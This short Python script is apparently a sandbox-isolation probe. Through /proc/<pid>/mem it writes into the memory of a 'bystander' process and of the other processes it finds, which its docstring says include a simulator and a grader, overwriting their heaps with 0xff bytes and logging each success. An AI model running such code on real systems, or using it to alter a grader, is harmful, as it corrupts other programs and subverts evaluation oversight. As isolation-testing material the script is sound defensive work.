"""Writes into the memory of the bystander, and of the simulator and the grader."""

import os

import known
from tools import achieved, attempt, command_line, processes

for pid in {known.BYSTANDER, *processes()}:
    with attempt():
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        achieved("opened a memory", command_line(pid))
        with attempt():
            os.pwrite(fd, b"attacked", known.BYSTANDER_ADDRESS)
        with open(f"/proc/{pid}/maps") as maps:
            for line in maps:
                if "[heap]" in line and b"bystander" not in command_line(pid):
                    start, end = (int(word, 16) for word in line.split()[0].split("-"))
                    os.pwrite(fd, b"\xff" * (end - start), start)
                    achieved("wrote into a memory", command_line(pid))
